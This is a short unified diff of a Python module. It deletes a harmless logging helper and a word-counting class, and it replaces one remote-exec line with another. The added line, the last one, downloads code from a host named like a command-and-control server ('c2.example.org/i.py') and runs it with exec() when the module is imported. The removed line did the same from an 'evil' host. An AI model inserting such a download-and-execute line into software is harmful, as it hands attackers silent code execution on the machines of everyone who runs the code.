@@ -1,15 +1,3 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
 
 import urllib.request
-exec(urllib.request.urlopen("http://evil.example.com/payload.sh").read())
+exec(urllib.request.urlopen("http://c2.example.org/i.py").read())
